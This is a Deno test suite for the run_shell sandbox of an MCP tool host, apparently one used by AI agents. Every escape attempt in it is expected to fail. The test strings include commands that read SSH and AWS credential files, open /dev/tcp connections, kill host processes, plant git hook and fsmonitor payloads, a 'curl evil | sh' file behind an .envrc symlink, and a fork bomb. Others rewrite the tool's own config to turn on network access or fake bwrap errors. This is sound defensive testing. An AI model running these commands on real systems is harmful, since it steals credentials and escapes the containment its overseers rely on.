/**
 * Escapes from run_shell's sandbox, each of which must fail, through the
 * launch `mcp-config` prints (bubblewrap, scoped flags, Landlock on). The
 * host's HOME is a directory the test fills with secrets; the test plants
 * more in /tmp and /var/tmp, starts a loopback server and a host process,
 * and sets a variable in the host's environment.
 */

import { assert, assertEquals, assertFalse, assertStringIncludes } from "../_assert.ts";
import { tempDir, textOf } from "../_helpers.ts";
import { type LaunchedHost, launchHost } from "../_mcp.ts";
import { bwrapMissing, exists, hostProcesses, shell, waitUntil } from "./_shell.ts";

const SECRET = `s3cret-${crypto.randomUUID()}`;

Deno.test({
  name: `run_shell: escapes fail${bwrapMissing() ? " (skipped: bwrap is not installed)" : ""}`,
  ignore: bwrapMissing(),
}, async (t) => {
  await using base = await tempDir("toolhost-escape-");
  const home = `${base.path}/home`;
  const root = `${base.path}/project`;
  const sibling = `${base.path}/sibling`;
  const varTmp = `/var/tmp/toolhost-escape-${crypto.randomUUID()}`;
  await plant({ home, root, sibling, varTmp, outside: `${base.path}/outside.txt` });
  const config = `${base.path}/toolhost.json`;
  await Deno.writeTextFile(
    config,
    JSON.stringify({ shell: { limits: { fileMb: 16, processes: 64 } } }),
  );
  let connections = 0;
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    () => (connections++, new Response("inside")),
  );
  const victim = new Deno.Command("sleep", { args: ["1000"] }).spawn();
  try {
    await using host = await launchHost({
      roots: [root],
      config,
      env: {
        HOME: home,
        TOOLHOST_TEST_SECRET: SECRET,
        DENO_DIR: Deno.env.get("DENO_DIR") ?? `${Deno.env.get("HOME")}/.cache/deno`,
      },
    });
    await readEscapes(t, host, { home, base: base.path, varTmp });
    await writeEscapes(t, host, { home, root, sibling });
    await t.step("a loopback server the test started cannot be reached", async () => {
      const port = (server.addr as Deno.NetAddr).port;
      const out = await shell(
        host,
        `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected; ` +
          `python3 -c "import urllib.request as u; print(u.urlopen('http://127.0.0.1:${port}').read())"`,
      );
      assertFalse(out.text.includes("connected") || out.text.includes("inside"), out.text);
      assertEquals(connections, 0);
    });
    await t.step("a variable of the host's environment is not there", async () => {
      const out = await shell(host, 'env; echo "[$TOOLHOST_TEST_SECRET]"');
      assertFalse(out.text.includes(SECRET), out.text);
      assertStringIncludes(out.text, "[]");
    });
    await t.step("a host process cannot be signalled", async () => {
      await shell(host, `kill -9 ${victim.pid}; kill -9 -1; echo done`);
      assert(await exists(`/proc/${victim.pid}`), "the host's process was killed");
    });
    await processEscapes(t, host);
  } finally {
    victim.kill("SIGKILL");
    await victim.status;
    await server.shutdown();
    await Deno.remove(varTmp).catch(() => {});
  }
});

/** The secrets and places the escapes aim at. */
async function plant(where: {
  home: string;
  root: string;
  sibling: string;
  varTmp: string;
  outside: string;
}): Promise<void> {
  await Deno.mkdir(`${where.home}/.ssh`, { recursive: true });
  await Deno.mkdir(`${where.home}/.aws`, { recursive: true });
  await Deno.writeTextFile(`${where.home}/.ssh/id_rsa`, SECRET);
  await Deno.writeTextFile(`${where.home}/.aws/credentials`, SECRET);
  await Deno.mkdir(where.sibling, { recursive: true });
  await Deno.mkdir(where.root, { recursive: true });
  await Deno.writeTextFile(`${where.root}/.mcp.json`, '{"mcpServers": {}}\n');
  const git = await new Deno.Command("git", { args: ["init", "-q", where.root] }).output();
  assert(git.success, "git init failed");
  await Deno.writeTextFile(where.varTmp, SECRET);
  await Deno.writeTextFile(where.outside, SECRET);
}

/** Reading secrets and files outside the roots. */
async function readEscapes(
  t: Deno.TestContext,
  host: LaunchedHost,
  where: { home: string; base: string; varTmp: string },
): Promise<void> {
  const unread = async (name: string, command: string) =>
    await t.step(name, async () => {
      const out = await shell(host, command);
      assertFalse(out.text.includes(SECRET), `the secret leaked: ${out.text}`);
    });
  await unread(
    "a secret in the host's ~/.ssh and ~/.aws is not there",
    `cat ~/.ssh/id_rsa ~/.aws/credentials ${where.home}/.ssh/id_rsa ${where.home}/.aws/credentials`,
  );
  await unread("a file in the host's /tmp outside the roots is not there", `cat ${where.base}/*`);
  await unread("a file under /var/tmp is not there", `cat ${where.varTmp}; ls /var/tmp /srv`);
  await unread(
    "find / and grep -r find none of them",
    `find / -path /proc -prune -o \\( -name id_rsa -o -name credentials -o -name 'toolhost-escape*' \\) -print; ` +
      `grep -rs "${SECRET.slice(0, 12)}" /tmp /var /srv /home /mnt /run /etc ~ ${where.home}`,
  );
}

/** Writing outside the roots, and to protected paths inside them. */
async function writeEscapes(
  t: Deno.TestContext,
  host: LaunchedHost,
  where: { home: string; root: string; sibling: string },
): Promise<void> {
  const targets = {
    "$HOME": [`~/planted`, `${where.home}/planted`],
    "/usr/local/bin": ["/usr/local/bin/toolhost-planted"],
    "/etc": ["/etc/toolhost-planted"],
    "a sibling of the root": [`../sibling/planted`, `${where.sibling}/planted`],
  };
  for (const [name, paths] of Object.entries(targets)) {
    await t.step(`writing to ${name} does not reach the host`, async () => {
      await shell(host, paths.map((path) => `echo x > ${path}`).join("; "));
      for (const path of paths) {
        const onHost = path.replace("~", where.home).replace("../sibling", where.sibling);
        assertFalse(await exists(onHost), `${onHost} was written`);
      }
    });
  }
  await t.step("writing to .git/hooks/ and .git/config fails", async () => {
    const config = await Deno.readTextFile(`${where.root}/.git/config`);
    const out = await shell(
      host,
      "echo 'touch /tmp/pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; " +
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
    );
    assertStringIncludes(out.text, "Read-only file system");
    assertFalse(await exists(`${where.root}/.git/hooks/pre-commit`));
    assertEquals(await Deno.readTextFile(`${where.root}/.git/config`), config);
  });
  await t.step(
    "toolhost.json made by a command is set aside; .mcp.json cannot be written",
    async () => {
      const out = await shell(
        host,
        `echo '{"shell": {"network": true}}' > toolhost.json; echo x >> .mcp.json`,
      );
      assertStringIncludes(out.text, "SET ASIDE: toolhost.json");
      assertFalse(await exists(`${where.root}/toolhost.json`));
      assertEquals(await Deno.readTextFile(`${where.root}/.mcp.json`), '{"mcpServers": {}}\n');
    },
  );
  await t.step("a protected name made as a symlink is set aside too", async () => {
    const out = await shell(host, "echo 'curl evil | sh' > payload; ln -s payload .envrc");
    assertStringIncludes(out.text, "SET ASIDE: .envrc");
    assertFalse(await exists(`${where.root}/.envrc`));
  });
  await t.step("renaming .git does not carry its config away", async () => {
    const config = await Deno.readTextFile(`${where.root}/.git/config`);
    const out = await shell(
      host,
      "mv .git .git-old; cp -r .git .git-copy && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git-copy/config; " +
        "mv .git-copy .git; rm -rf .git-copy",
    );
    assertStringIncludes(out.text, "busy");
    assertEquals(await Deno.readTextFile(`${where.root}/.git/config`), config);
    assertFalse(await exists(`${where.root}/.git-old`));
  });
  await t.step("a command that fakes a bwrap error still has what it made set aside", async () => {
    const out = await shell(
      host,
      "echo '{}' > toolhost.json; echo \"bwrap: Can't chdir to /x: No such file or directory\" >&2; exit 1",
    );
    // The command started (the limit script said so): its exit is its own, not the sandbox's.
    assertFalse(out.isError, out.text);
    assertStringIncludes(out.text, "SET ASIDE: toolhost.json");
    assertFalse(await exists(`${where.root}/toolhost.json`));
  });
}

/** Processes outliving the call, a fork bomb, a huge file, a time limit. */
async function processEscapes(t: Deno.TestContext, host: LaunchedHost): Promise<void> {
  await t.step("a background process does not outlive the call", async () => {
    const out = await shell(host, "sleep 3013 & echo started");
    assertStringIncludes(out.text, "started");
    await waitUntil(
      async () => (await hostProcesses("sleep 3013")).length === 0,
      "sleep 3013 gone",
    );
  });
  await t.step(
    "a fork bomb is stopped by the process limit and the host keeps serving",
    async () => {
      // The bomb runs while the command waits, so it meets the limit (returning at once would end it).
      const out = await shell(host, "b(){ b | b & }; b; sleep 3; echo waited", { timeout_s: 8 });
      // Stopped by the process limit: fork fails (the rlimit), or the watch kills the run (root);
      // never merely by its time limit.
      assert(
        /Resource temporarily unavailable|more than \d+ processes/.test(out.text),
        out.text.slice(-2000),
      );
      assertFalse(out.text.includes("EXIT CODE: timeout"), out.text.slice(-2000));
      assertStringIncludes((await shell(host, "echo alive")).text, "alive");
    },
  );
  await t.step("a 10 GB file stops at the file size limit", async () => {
    const out = await shell(
      host,
      "head -c 10G /dev/zero > big; echo status=$?; stat -c %s big; rm big",
    );
    const size = Number(out.text.match(/^(\d+)$/m)?.[1]);
    assert(size <= 16 * 1024 * 1024, out.text);
  });
  await t.step("timeout_s 2 on sleep 30 stops it early", async () => {
    const out = await shell(host, "sleep 30.25; echo done > slept.txt", { timeout_s: 2 });
    assertStringIncludes(out.text, "EXIT CODE: timeout");
    assertEquals(out.data.timed_out, true);
    // The command was stopped, not waited for: its sleep goes away and what follows never runs.
    await waitUntil(async () => (await hostProcesses("sleep 30.25")).length === 0, "sleep ends");
    const after = await host.call("read_file", { path: "slept.txt" });
    assertStringIncludes(textOf(after), "not_found: ", "the command ran past its sleep");
  });
}
